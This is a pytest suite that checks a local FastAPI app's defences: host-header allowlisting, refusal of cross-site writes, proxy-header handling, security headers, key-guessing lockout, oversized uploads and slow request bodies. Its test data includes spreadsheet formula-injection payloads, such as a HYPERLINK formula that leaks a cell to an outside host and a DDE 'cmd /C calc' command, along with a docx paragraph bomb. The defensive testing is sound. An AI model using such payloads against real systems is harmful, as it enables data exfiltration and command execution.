"""A local server a browser cannot be turned against: hosts, cross-site writes, proxies."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from web.app import create_app
from web.export import write_csv, write_xlsx
from web.services import Services
from web.settings import Settings

LOCAL = "http://127.0.0.1:8000"


def client(tmp_path: Path, base_url: str = LOCAL, **overrides: Any) -> TestClient:
    values: dict[str, Any] = {
        "data_dir": tmp_path / "data",
        "rate_limit_per_minute": 0,
        "allowed_hosts": "",  # the default, not the test suite's "testserver"
        "auth": "auto",
        "host": "127.0.0.1",
    }
    values.update(overrides)
    settings = Settings(**values)
    return TestClient(create_app(settings, Services(settings)), base_url=base_url)


def test_local_mode_answers_only_loopback_hosts(tmp_path: Path) -> None:
    with client(tmp_path) as c:
        assert c.get("/healthz").status_code == 200
        assert c.get("/healthz", headers={"Host": "localhost:8000"}).status_code == 200
        assert c.get("/healthz", headers={"Host": "[::1]:8000"}).status_code == 200
        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example"):
            r = c.get("/api/audit.csv", headers={"Host": host})
            assert r.status_code == 400, host
            assert r.json()["error"]["code"] == "host_not_allowed"
            assert "DIGI_ALLOWED_HOSTS" in r.json()["error"]["message"]
    with client(tmp_path, allowed_hosts="digirapport.intra") as c:
        assert c.get("/healthz", headers={"Host": "digirapport.intra"}).status_code == 200
        assert c.get("/healthz", headers={"Host": "evil.example"}).status_code == 400


def test_with_keys_any_host_reaches_the_key_check(tmp_path: Path) -> None:
    with client(tmp_path, auth="on") as c:
        assert c.get("/healthz", headers={"Host": "digirapport.kommun.se"}).status_code == 200
        assert c.get("/api/search?q=index", headers={"Host": "x.example"}).status_code == 401


def test_cross_site_writes_are_refused(tmp_path: Path) -> None:
    body = {"message": "Vad blev indexet 2025?"}
    with client(tmp_path) as c:
        for headers in (
            {"Origin": "https://evil.example"},
            {"Sec-Fetch-Site": "cross-site"},
            {"Origin": "null"},
        ):
            r = c.post("/api/chat", json=body, headers=headers)
            assert r.status_code == 403 and r.json()["error"]["code"] == "cross_site", headers
        files = {"file": ("a.txt", b"Hej", "text/plain")}
        r = c.post("/api/documents", files=files, headers={"Origin": "http://evil.example"})
        assert r.status_code == 403
        # the UI itself (same origin) and programs without browser headers are not affected
        same = {"Origin": LOCAL, "Sec-Fetch-Site": "same-origin"}
        assert c.post("/api/chat", json=body, headers=same).status_code == 200
        assert c.post("/api/chat", json=body).status_code == 200
        # reading is not a write: a cross-site GET is answered (the browser keeps it from the page)
        assert c.get("/healthz", headers={"Origin": "https://evil.example"}).status_code == 200


def test_a_proxy_on_the_same_host_does_not_make_requests_local(tmp_path: Path) -> None:
    proxied = (
        {"X-Forwarded-For": "203.0.113.9"},
        {"Forwarded": "for=203.0.113.9"},
        {"X-Real-IP": "203.0.113.9"},
    )
    with client(tmp_path) as c:
        assert c.get("/api/search?q=index").status_code == 200  # straight from loopback
        for headers in proxied:
            r = c.get("/api/search?q=index", headers=headers)
            assert r.status_code == 401, headers
    with client(tmp_path, local_behind_proxy=True) as c:
        assert c.get("/api/search?q=index", headers=proxied[0]).status_code == 200


def test_security_headers(tmp_path: Path) -> None:
    with client(tmp_path) as c:
        page = c.get("/")
        csp = page.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";", 1)[0]
        assert page.headers["x-frame-options"] == "DENY"
        assert page.headers["referrer-policy"] == "no-referrer"
        assert page.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" in c.get("/api/index/2025").headers


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x?"&A2,"a")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "\tx",
    ],
)
def test_spreadsheet_outputs_keep_formulas_as_text(tmp_path: Path, value: str) -> None:
    import pandas as pd

    frame = pd.DataFrame({"title": [value, "Vanlig titel"], "n": [1, 2]})
    xlsx = tmp_path / "out.xlsx"
    write_xlsx(frame, xlsx, "Förslag")
    ws = load_workbook(xlsx).active
    assert ws is not None
    cell = ws["A2"]
    assert cell.value == value and cell.data_type == "s"  # text, not a formula
    assert ws["B2"].value == 1 and ws["A3"].value == "Vanlig titel"
    out = tmp_path / "out.csv"
    write_csv(frame, out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[1][0] == "'" + value and rows[2][0] == "Vanlig titel"


def test_an_uploaded_paragraph_bomb_is_refused_and_nothing_is_stored(tmp_path: Path) -> None:
    from tests.ingest.helpers import write_docx
    from tests.ingest.test_hostile_files import rebuild_docx

    real = write_docx(tmp_path / "real.docx")
    bomb = rebuild_docx(real, tmp_path / "bomb.docx", body=b"<w:p/>" * 450_000)
    with client(tmp_path) as c:
        with bomb.open("rb") as fh:
            r = c.post("/api/documents", files={"file": ("bomb.docx", fh, "application/zip")})
        assert r.status_code == 413, r.text
        error = r.json()["error"]
        assert error["code"] == "document_too_large" and "bomb.docx" in error["message"]
        assert all(d["source"] != "bomb.docx" for d in c.get("/api/documents").json()["documents"])


def test_former_server_errors_are_client_errors(tmp_path: Path) -> None:
    with client(tmp_path) as c:
        for path in ("/static/app.js%00.png", "/static/%00"):
            r = c.get(path)
            assert r.status_code == 400, path
        lone = '{"message": "Vad blev indexet \\ud800?"}'
        for route in ("/api/chat", "/api/chat/stream"):
            r = c.post(route, content=lone, headers={"Content-Type": "application/json"})
            assert r.status_code == 422, (route, r.text)
            assert r.json()["error"]["field"] == "message"
        r = c.post(
            "/api/initiatives/classify",
            content='{"title": "Chattbot \\ud800", "description": "En chattbot för bygglov."}',
            headers={"Content-Type": "application/json"},
        )
        assert r.status_code == 422 and r.json()["error"]["field"] == "title"
        for name in ("ö" * 200 + ".txt", "𝔘" * 300 + ".md"):
            r = c.post(
                "/api/documents",
                files={"file": (name, "Hej och välkommen.".encode(), "text/plain")},
            )
            assert r.status_code == 200, r.text
            stored = r.json()["source"]
            assert len(stored.encode("utf-8")) <= 180 and stored.endswith(name[-4:])


def test_api_docs_need_a_key_when_keys_are_on(tmp_path: Path) -> None:
    with client(tmp_path, auth="on") as c:
        for path in ("/docs", "/redoc", "/openapi.json"):
            assert c.get(path).status_code == 401, path
    with client(tmp_path, auth="on", docs_public=True) as c:
        assert c.get("/openapi.json").status_code == 200
    with client(tmp_path) as c:  # local mode
        assert c.get("/docs").status_code == 200


def test_upload_folders_left_by_a_crash_are_removed_at_start(tmp_path: Path) -> None:
    import os
    import time

    from web.routes.documents import UPLOAD_TMP_PREFIX

    data = tmp_path / "data"
    old = data / f"{UPLOAD_TMP_PREFIX}abc123"
    old.mkdir(parents=True)
    (old / "halv.pdf").write_bytes(b"%PDF-1.4 halv")
    stale = time.time() - 7200
    os.utime(old, (stale, stale))
    fresh = data / f"{UPLOAD_TMP_PREFIX}pågår"
    fresh.mkdir()
    with client(tmp_path) as c:
        assert c.get("/healthz").status_code == 200
    assert not old.exists() and fresh.exists()  # another process may still be uploading


def test_guessing_keys_is_slowed_down_and_audited(tmp_path: Path) -> None:
    with client(tmp_path, auth="on") as c:
        services = c.app.state.services  # type: ignore[attr-defined]
        _record, good = services.storage.create_api_key("läsare", "reader")
        codes = [
            c.get("/api/search?q=index", headers={"X-API-Key": f"dgr_fel_{i}"}).status_code
            for i in range(11)
        ]
        assert codes == [401] * 10 + [429]
        r = c.get("/api/search?q=index", headers={"X-API-Key": good})
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1  # this client waits
        assert "försök igen" in r.json()["error"]["message"]
        failed = [a for a in services.storage.audit_records() if a["event"] == "auth_failed"]
        assert len(failed) == 10 and all("dgr_fel" not in str(a["data"]) for a in failed)
    with client(tmp_path, auth="on") as c2:
        services = c2.app.state.services  # type: ignore[attr-defined]
        _record, reader = services.storage.create_api_key("läsare3", "reader")
        r = c2.post(
            "/api/documents",
            files={"file": ("a.txt", b"Hej", "text/plain")},
            headers={"X-API-Key": reader},
        )
        assert r.status_code == 403
        refused = [a for a in services.storage.audit_records() if a["event"] == "auth_refused"]
        assert refused and refused[-1]["data"]["needed"] == "editor"


def test_huge_headers_and_trickling_bodies_are_cut_off(tmp_path: Path) -> None:
    import socket
    import time

    from tests.web.ui_helpers import serve

    with client(tmp_path) as c:
        r = c.get("/healthz", headers={"Authorization": "Bearer " + "x" * 40_000})
        assert r.status_code == 431 and r.json()["error"]["code"] == "headers_too_large"

    settings = Settings(
        data_dir=tmp_path / "slow", rate_limit_per_minute=0, allowed_hosts="", body_read_timeout=1
    )
    with serve(create_app(settings, Services(settings))) as url:
        port = int(url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(
                b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                b"Content-Length: 1000\r\n\r\n{"
            )
            started = time.monotonic()
            data = sock.recv(4096)  # the server gives up on the body: an answer or a close
            waited = time.monotonic() - started
        assert waited < 8, waited
        assert not data or not data.startswith(b"HTTP/1.1 200"), data[:80]


def test_the_body_timeout_ends_with_the_body() -> None:
    """After the whole body has arrived, waiting for a disconnect is not timed (streams)."""
    import asyncio

    from starlette.types import Message

    from web.guard import GuardMiddleware

    messages: list[Message] = [{"type": "http.request", "body": b"{}", "more_body": False}]

    async def receive() -> Message:
        if messages:
            return messages.pop(0)
        await asyncio.sleep(0.3)  # the client stays connected longer than the timeout
        return {"type": "http.disconnect", "late": True}

    got: list[Message] = []

    async def app(scope: Any, rcv: Any, send: Any) -> None:
        got.append(await rcv())
        got.append(await rcv())

    class State:
        services = type("S", (), {"settings": Settings(body_read_timeout=0.1, allowed_hosts="*")})

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/api/chat/stream",
        "headers": [(b"host", b"127.0.0.1")],
        "app": type("A", (), {"state": State})(),
        "server": ("127.0.0.1", 8000),
    }
    asyncio.run(GuardMiddleware(app)(scope, receive, lambda m: asyncio.sleep(0)))
    assert got[0]["type"] == "http.request" and got[1].get("late") is True
